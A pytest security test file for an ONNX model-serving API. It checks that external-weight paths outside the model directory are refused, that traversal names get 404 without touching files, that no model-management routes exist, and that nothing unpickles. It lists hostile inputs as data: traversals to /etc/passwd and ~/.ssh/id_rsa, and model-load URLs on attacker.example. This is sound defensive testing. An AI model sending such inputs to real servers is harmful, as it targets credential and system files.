"""Models and registry: ONNX external data outside the model directory, traversal names in queries and
paths (answered 404 without touching a file), no management API (no route loads, unloads or registers a
model or changes logging), and no unpickling anywhere in the code."""

from __future__ import annotations

import ast
import logging
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import quote

import httpx
import onnx
import pytest
from fastapi import FastAPI

from service.services import Services
from tests.artifacts import install_artifact
from tests.asgi import services_of_client
from tests.security.conftest import smallest
from tests.service.conftest import REPO, ClientFactory, FashionSample, Zoo

pytestmark = pytest.mark.anyio


# ---- ONNX external data ---------------------------------------------------------------------------------


def _save_external(zoo: Zoo, name: str, onnx_name: str, weights_path: Path) -> bytes:
    model = onnx.load(str(zoo.artifact(name)))
    tmp = zoo.models_dir.parent / "staging"
    tmp.mkdir(exist_ok=True)
    onnx.save_model(
        model,
        str(tmp / onnx_name),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=1024,
    )
    weights_path.parent.mkdir(parents=True, exist_ok=True)
    (tmp / "weights.bin").replace(weights_path)
    proto = onnx.load(str(tmp / onnx_name), load_external_data=False)
    return proto.SerializeToString()  # type: ignore[no-any-return]


def _point_external_data(data: bytes, location: str) -> bytes:
    proto = onnx.ModelProto()
    proto.ParseFromString(data)
    for tensor in proto.graph.initializer:
        for field in tensor.external_data:
            if field.key == "location":
                field.value = location
    return proto.SerializeToString()  # type: ignore[no-any-return]


async def test_onnx_external_data_outside_the_model_directory_is_refused(
    tmp_path: Path, zoo: Zoo, client_for: ClientFactory, fashion: FashionSample
) -> None:
    registry = zoo.registry
    inside = smallest(registry, exclude=(registry.default,))
    outside = smallest(registry, exclude=(registry.default, inside.name))
    absolute = smallest(registry, exclude=(registry.default, inside.name, outside.name))
    # Control: weights beside the graph, inside the model directory, load and serve.
    data = _save_external(zoo, inside.name, "inside.onnx", zoo.models_dir / "weights.bin")
    install_artifact(zoo, inside.name, data, "inside.onnx")
    # The same graph whose weights live outside: a relative escape and an absolute path.
    secret = tmp_path / "secret.bin"
    data = _save_external(zoo, outside.name, "outside.onnx", secret)
    install_artifact(zoo, outside.name, _point_external_data(data, "../secret.bin"), "outside.onnx")
    install_artifact(zoo, absolute.name, _point_external_data(data, str(secret)), "absolute.onnx")
    async with client_for(zoo) as client:
        png = {"file": ("x.png", fashion.png(0), "image/png")}
        ok = await client.post("/classify", params={"model": inside.name}, files=png)
        assert ok.status_code == 200, ok.text
        for entry in (outside, absolute):
            r = await client.post("/classify", params={"model": entry.name}, files=png)
            assert r.status_code == 503 and "retry-after" in r.headers, r.text
            assert str(tmp_path) not in r.text
            state = (await client.get(f"/models/{entry.name}")).json()
            assert state["status"] == "unavailable", state
        assert (await client.get("/health/ready")).status_code == 200


# ---- traversal names --------------------------------------------------------------------------------------

TRAVERSALS = [
    "../registry.yaml",
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\registry.yaml",
    "fmnist-lenet5/../../registry.yaml",
    "fmnist-lenet5.onnx",
    "models/fmnist-lenet5.onnx",
    "%2e%2e%2fregistry.yaml",
    "..%252f..%252fetc%252fpasswd",
    "fmnist-lenet5\x00.onnx",
    "file:///etc/passwd",
    "http://attacker.example/evil.onnx",
    "~/.ssh/id_rsa",
]
PATH_TEMPLATES = [
    "/models/{}",
    "/models/{}/labels",
    "/v2/models/{}",
    "/v2/models/{}/ready",
    "/v2/models/{}/config",
    "/v2/models/{}/stats",
    "/v2/models/{}/versions/1",
]


class FileAccess:
    """Records files opened and directories listed by this process while `active` (a Python audit hook;
    hooks cannot be removed, so one is installed once and switched on and off)."""

    active: ClassVar[bool] = False
    seen: ClassVar[list[tuple[str, str]]] = []
    installed: ClassVar[bool] = False

    @classmethod
    def install(cls) -> None:
        if not cls.installed:
            sys.addaudithook(cls._hook)
            cls.installed = True

    @classmethod
    def _hook(cls, event: str, args: tuple[Any, ...]) -> None:
        if cls.active and event in (
            "open",
            "os.listdir",
            "os.scandir",
            "os.remove",
            "os.rename",
            "os.symlink",
        ):
            cls.seen.append((event, str(args[0]) if args else ""))


def _interpreter_file(path: str) -> bool:
    # Lazy imports of the interpreter and its packages are not the request reaching for a file.
    prefixes = tuple({sys.prefix, sys.base_prefix, sys.exec_prefix, str(REPO / "service")})
    return path.startswith(prefixes) and path.endswith((".py", ".pyc", ".so", ".pth", "__pycache__"))


async def test_traversal_names_are_404_and_touch_no_file(
    zoo: Zoo, client_for: ClientFactory, fashion: FashionSample
) -> None:
    FileAccess.install()
    png = fashion.png(0)
    async with client_for(zoo) as client:

        async def attempts(name: str) -> list[httpx.Response]:
            out = [
                await client.post(
                    "/classify", params={"model": name}, files={"file": ("x.png", png, "image/png")}
                )
            ]
            out.append(await client.post(f"/v2/models/{quote(name, safe='')}/infer", content=b"{}"))
            for template in PATH_TEMPLATES:
                out.append(await client.get(template.format(quote(name, safe=""))))
            return out

        await attempts("no-such-model")  # warm-up: first-use imports of the error paths
        FileAccess.seen.clear()
        FileAccess.active = True
        try:
            responses = [r for name in TRAVERSALS for r in await attempts(name)]
        finally:
            FileAccess.active = False
    for r in responses:
        assert r.status_code == 404, (r.request.url, r.status_code, r.text)
    touched = [(event, path) for event, path in FileAccess.seen if not _interpreter_file(path)]
    assert touched == [], touched
    # the instrument itself: an open while recording is seen
    FileAccess.active = True
    try:
        zoo.registry_path.read_bytes()
    finally:
        FileAccess.active = False
    assert ("open", str(zoo.registry_path)) in FileAccess.seen


# ---- no management API ------------------------------------------------------------------------------------

# POST routes, each reviewed: they take images or tensors (inference of registry models only), or answer
# read-only queries, or refuse explicit model control. Every other route must be GET or HEAD.
REVIEWED_POSTS = {
    "/classify",
    "/compare",
    "/v2/models/{name}/infer",
    "/v2/models/{name}/versions/{version}/infer",
    "/v2/repository/index",
    "/v2/repository/models/{name}/load",  # refused with 400 without API keys; an admin key's (docs/auth.md)
    "/v2/repository/models/{name}/unload",
    "/models/{name}/monitor/reference",  # captures a reference from the next answers; an admin key's
}
CONTROL_WORDS = {
    "register",
    "registration",
    "upload",
    "logging",
    "log",
    "logs",
    "trace",
    "workers",
    "scale",
    "settings",
}


def walk_routes(routes: list[Any]) -> Iterator[tuple[str, set[str]]]:
    for route in routes:
        if hasattr(route, "original_router"):  # FastAPI's included routers
            yield from walk_routes(route.original_router.routes)
        elif hasattr(route, "routes") and not hasattr(
            route, "methods"
        ):  # a mounted app: its paths under the mount's
            yield from ((route.path + path, methods) for path, methods in walk_routes(route.routes))
        else:
            yield route.path, set(getattr(route, "methods", None) or {"GET"})


def _app_routes(zoo: Zoo) -> list[tuple[str, set[str]]]:
    from service.main import create_app
    from tests.service.conftest import settings_for

    app: FastAPI = create_app(settings_for(zoo))
    return list(walk_routes(app.routes))


def test_every_route_is_read_only_or_reviewed(zoo: Zoo) -> None:
    routes = _app_routes(zoo)
    assert ("/classify", {"POST"}) in routes  # the walk reaches the included routers
    for path, methods in routes:
        writes = methods - {"GET", "HEAD"}
        assert not writes or (writes == {"POST"} and path in REVIEWED_POSTS), (path, methods)
        words = {w for part in path.split("/") for w in part.strip("{}").split("-")}
        assert not words & CONTROL_WORDS, path


def _snapshot(services: Services, zoo: Zoo) -> dict[str, Any]:
    manager = services.manager
    loggers = ["", "convzoo", "convzoo.access", "uvicorn", "uvicorn.access", "uvicorn.error"]
    return {
        "models": {s.entry.name: (s.status, s.loads) for s in manager.states()},
        "registry": zoo.registry_path.read_bytes(),
        "registry_object": id(manager.registry),
        "files": sorted((p.name, p.stat().st_mtime_ns) for p in zoo.models_dir.iterdir()),
        "settings": services.settings.model_dump(),
        "logging": {
            name: (
                logging.getLogger(name).level,
                [
                    (type(h).__name__, getattr(h, "baseFilename", None), h.level)
                    for h in logging.getLogger(name).handlers
                ],
            )
            for name in loggers
        },
    }


def _fill(path: str, name: str, version: str) -> str:
    return path.replace("{name}", name).replace("{version}", version)


ANCHOR_CONTROL = [  # management calls of TorchServe, Triton, KServe and BentoML, and generic ones
    ("POST", "/models?url=http://attacker.example/evil.mar&initial_workers=1"),
    ("PUT", "/models/{name}?min_worker=4"),
    ("DELETE", "/models/{name}"),
    ("POST", "/models/{name}"),
    ("POST", "/v2/repository/models/{name}/load"),
    ("POST", "/v2/repository/models/{name}/unload"),
    ("POST", "/v2/logging"),
    ("POST", "/v2/trace/setting"),
    ("POST", "/v2/models/{name}/trace/setting"),
    ("POST", "/v1/models/{name}:load"),
    ("PUT", "/logging"),
    ("POST", "/admin/reload"),
    ("POST", "/register"),
]


async def test_no_route_changes_models_registry_or_logging(
    zoo: Zoo, client_for: ClientFactory, fashion: FashionSample
) -> None:
    registry = zoo.registry
    other = smallest(registry, exclude=(registry.default,))  # not loaded: a load would show
    routes = _app_routes(zoo)
    async with client_for(zoo) as client:
        services = services_of_client(client)
        before = _snapshot(services, zoo)
        assert before["models"][other.name][0] == "available"
        for name in (other.name, "no-such-model"):
            version = registry.get(other.name).version
            for path, methods in routes:
                for method in sorted(methods - {"HEAD"}):
                    url = _fill(path, name, version)
                    if path.startswith("/static/"):
                        url = "/static/app.js"
                    if method == "POST" and ("infer" in path or path in ("/classify", "/compare")):
                        continue  # inference is the one way a registry model loads; not a control call
                    r = await client.request(
                        method, url, content=b"{}", headers={"content-type": "application/json"}
                    )
                    assert r.status_code < 500 or r.status_code == 503, (method, url, r.text)
            for method, path in ANCHOR_CONTROL:
                r = await client.request(method, _fill(path, name, version), content=b"{}")
                assert r.status_code in (400, 404, 405), (method, path, r.status_code)
        # inference of the default model (already loaded) leaves the rest as it was
        r = await client.post("/classify", files={"file": ("x.png", fashion.png(0), "image/png")})
        assert r.status_code == 200
        after = _snapshot(services, zoo)
    assert after == before


# ---- nothing unpickles ------------------------------------------------------------------------------------

SCANNED = ["service", "export", "scripts", "bench"]
PICKLE_MODULES = {
    "pickle",
    "_pickle",
    "cPickle",
    "cloudpickle",
    "dill",
    "joblib",
    "shelve",
    "marshal",
    "pandas",
}


def _keyword(call: ast.Call, name: str) -> ast.expr | None:
    return next((k.value for k in call.keywords if k.arg == name), None)


def _dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    if isinstance(node, ast.Name):
        return node.id
    return ""


def unpickling_calls(source: str) -> list[str]:
    """Lines of `source` that import a pickle-based loader or call one without its safe switch."""
    problems = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            if any(n.split(".")[0] in PICKLE_MODULES for n in names):
                problems.append(f"{node.lineno}: imports {names}")
        if not isinstance(node, ast.Call):
            continue
        func = _dotted(node.func)
        last = func.rsplit(".", 1)[-1]
        safe_weights = _keyword(node, "weights_only")
        if func.endswith("torch.load") or (func == "load" and safe_weights is not None):
            if not (isinstance(safe_weights, ast.Constant) and safe_weights.value is True):
                problems.append(f"{node.lineno}: {func} without weights_only=True")
        elif func.endswith(("np.load", "numpy.load")):
            allow = _keyword(node, "allow_pickle")
            if allow is not None and not (isinstance(allow, ast.Constant) and allow.value is False):
                problems.append(f"{node.lineno}: {func} with allow_pickle")
        elif func.endswith(("yaml.load", "yaml.unsafe_load", "yaml.full_load", "yaml.load_all")):
            problems.append(f"{node.lineno}: {func} (use yaml.safe_load)")
        elif func.endswith(("torch.jit.load", "read_pickle")) or (last in ("loads",) and "pickle" in func):
            problems.append(f"{node.lineno}: {func}")
    return problems


def test_the_checker_catches_unpickling() -> None:
    bad = (
        "import pickle\nimport torch, numpy as np, yaml\n"
        "torch.load('a')\ntorch.load('a', weights_only=False)\nnp.load('a', allow_pickle=True)\n"
        "yaml.load(open('r'))\ntorch.jit.load('m')\n"
    )
    assert len(unpickling_calls(bad)) == 6
    good = "import torch, numpy as np, yaml\ntorch.load('a', weights_only=True)\nnp.load('a')\nyaml.safe_load('x')\n"
    assert unpickling_calls(good) == []


def test_nothing_in_the_code_unpickles() -> None:
    files = [p for d in SCANNED if (REPO / d).is_dir() for p in sorted((REPO / d).rglob("*.py"))]
    assert any(p.parts[-2] == "service" for p in files)
    found = {str(p.relative_to(REPO)): unpickling_calls(p.read_text(encoding="utf-8")) for p in files}
    assert {k: v for k, v in found.items() if v} == {}
